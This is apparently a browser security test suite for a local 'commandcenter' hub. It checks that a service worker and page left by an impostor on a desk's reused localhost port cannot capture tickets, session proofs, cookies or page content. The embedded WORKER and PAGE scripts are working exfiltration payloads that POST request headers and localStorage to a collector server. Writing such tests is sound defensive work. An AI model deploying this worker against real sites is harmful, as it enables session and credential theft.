"""A program that has had a desk's port leaves a service worker and an open page in the browser, in Chromium."""

import json
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, expect

from .conftest import HubProcess
from .test_browser_sign_in import expect_signed_in

pytestmark = [pytest.mark.browser, pytest.mark.slow]

WORKER = """
const send = (what) => fetch('COLLECTOR', { method: 'POST', mode: 'no-cors', body: JSON.stringify(what) });
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
    send({ url: event.request.url, headers: [...event.request.headers] });
    if (event.request.mode !== 'navigate') return;
    event.respondWith(new Response(
        `<script>fetch('COLLECTOR', { method: 'POST', mode: 'no-cors',
            body: JSON.stringify({ page: location.href, stored: { ...localStorage } }) })</script>`,
        { headers: { 'content-type': 'text/html' } }));
});
"""
PAGE = """<!doctype html><title>not the desk</title><script>
navigator.serviceWorker.register('/worker.js', { scope: '/' }).then(() => navigator.serviceWorker.ready)
    .then(() => { document.title = 'registered'; });
setInterval(async () => {
    const summary = await fetch('/api/summary').then((one) => one.status).catch(String);
    fetch('COLLECTOR', { method: 'POST', mode: 'no-cors',
        body: JSON.stringify({ summary, stored: { ...localStorage } }) });
}, 200);
</script>"""


class Impostor(BaseHTTPRequestHandler):
    """The program of another user: its pages, and what they send to it."""

    received: list[str]
    collector: str

    def do_GET(self) -> None:
        self.received.append(json.dumps({"path": self.path, "cookie": self.headers.get("cookie")}))
        script = self.path == "/worker.js"
        body = (WORKER if script else PAGE).replace("COLLECTOR", self.collector).encode()
        self.send_response(200)
        self.send_header("content-type", "text/javascript" if script else "text/html")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        self.received.append(self.rfile.read(int(self.headers["content-length"])).decode())
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: Any) -> None: ...


class Attack:
    """An impostor that can bind ports, and what it has received."""

    def __init__(self) -> None:
        self.received: list[str] = []
        self._servers: list[ThreadingHTTPServer] = []
        self._collector = ""
        self._collector = f"http://127.0.0.1:{self.bind(0)}/"

    def bind(self, port: int) -> int:
        handler = type("Bound", (Impostor,), {"received": self.received, "collector": self._collector})
        server = ThreadingHTTPServer(("127.0.0.1", port), handler)
        Thread(target=server.serve_forever, daemon=True).start()
        self._servers.append(server)
        return server.server_port

    def release(self) -> None:
        """Release the port that was bound last."""
        server = self._servers.pop()
        server.shutdown()
        server.server_close()

    def wait_for(self, text: str) -> None:
        """Wait until something that contains this has been received."""
        deadline = time.monotonic() + 30
        while not any(text in one for one in list(self.received)):
            assert time.monotonic() < deadline, self.received
            time.sleep(0.05)

    def end(self) -> None:
        while self._servers:
            self.release()


@pytest.fixture
def attack() -> Iterator[Attack]:
    made = Attack()
    try:
        yield made
    finally:
        made.end()


def port_of(address: str) -> int:
    return httpx.URL(address).port or 80


def stopped(hub: HubProcess, project: dict[str, Any]) -> None:
    hub.call("POST", f"/api/orchestration/{project['id']}/stop")
    hub.until(project, "stopped")


def attacked(page: Page, attack: Attack, address: str) -> Page:
    """Open an impostor's page at the port of a desk that does not run, then free the port. The page stays open."""
    left = page.context.new_page()
    attack.bind(port_of(address))
    left.goto(address)
    expect(left).to_have_title("registered")
    left.wait_for_function("navigator.serviceWorker.controller !== null")
    attack.release()
    return left


def test_what_another_program_left_at_a_stopped_desks_port_gets_nothing(
    hub: HubProcess, page: Page, attack: Attack
) -> None:
    project = hub.register("secret plans")
    bookmark = project["urls"]["frontend"]
    page.goto(hub.call("POST", "/api/auth/links")["url"])
    expect(page.get_by_test_id("project-card")).to_be_visible()
    attacked(page, attack, f"{bookmark}/")
    hub.started(project)

    # The worker that it left answers at the known address: a ticket that is opened there is lost.
    lost = page.context.new_page()
    lost.goto(f"{bookmark}/#ticket=canary")
    attack.wait_for("#ticket=canary")
    attack.received.clear()

    page.goto(f"http://127.0.0.1:{hub.port}/open/{project['id']}?path=/documents?kind=markdown")
    expect(page.get_by_role("heading", name="Documents")).to_be_visible()
    expect(page.get_by_text("README.md")).to_be_visible()
    second = page.context.new_page()
    second.goto(hub.call("POST", f"/api/projects/{project['id']}/tickets")["url"])
    expect_signed_in(second)
    second.reload()
    expect_signed_in(second)
    # The page that it left is still open too, at the address of a desk that now runs.
    attack.wait_for('"summary":401')
    proof = second.evaluate("localStorage.getItem('commandcenter-page')")
    host = httpx.URL(second.url).host
    (cookie,) = [
        one.get("value", "") for one in second.context.cookies() if one.get("name", "").startswith("commandcenter_desk")
    ]
    assert proof
    everything = "\n".join(attack.received).replace("#ticket=canary", "")  # which may be reported more than once
    assert [one for one in ("ticket", proof, cookie, "README", host) if one in everything] == []


def test_what_another_program_left_at_a_desks_own_name_ends_with_the_next_start(
    hub: HubProcess, page: Page, attack: Attack
) -> None:
    project = hub.register("secret plans")
    hub.started(project)
    page.goto(hub.call("POST", "/api/auth/links")["url"])
    expect(page.get_by_test_id("project-card")).to_be_visible()
    page.goto(hub.call("POST", f"/api/projects/{project['id']}/tickets")["url"])
    expect_signed_in(page)
    first = page.url
    stopped(hub, project)
    old = attacked(page, attack, first)
    attack.wait_for("commandcenter-page")  # it has the session of that time
    hub.started(project)
    attack.received.clear()

    page.goto(f"http://127.0.0.1:{hub.port}/open/{project['id']}")
    expect_signed_in(page)
    assert httpx.URL(page.url).host != httpx.URL(first).host
    # With the proof and the cookie of that time, its open page gets nothing either.
    assert httpx.URL(old.url).host == httpx.URL(first).host
    read = "fetch('/api/summary', { headers: { 'x-commandcenter-page': localStorage['commandcenter-page'] } })"
    assert old.evaluate(f"{read}.then((one) => one.status)") == 401
    proof = page.evaluate("localStorage.getItem('commandcenter-page')")
    everything = "\n".join(attack.received)
    assert [one for one in ("ticket", proof, httpx.URL(page.url).host) if one in everything] == []


def test_a_bookmark_leads_to_the_session_without_the_hub(hub: HubProcess, page: Page) -> None:
    """A browser that has signed in by a link of `commandcenter open`, and does not know the Hub."""
    project = hub.register("secret plans")
    hub.started(project)
    page.goto(hub.call("POST", f"/api/projects/{project['id']}/tickets")["url"])
    expect_signed_in(page)
    own = httpx.URL(page.url)
    assert own.host.endswith(".localhost")
    page.goto(f"{project['urls']['frontend']}/documents?kind=markdown")
    expect(page.get_by_role("heading", name="Documents")).to_be_visible()
    assert httpx.URL(page.url).host == own.host
    page.goto(f"http://{'0' * 32}.localhost:{own.port}/documents")  # a bookmark from before a restart
    expect(page.get_by_role("heading", name="Documents")).to_be_visible()
    assert httpx.URL(page.url).host == own.host
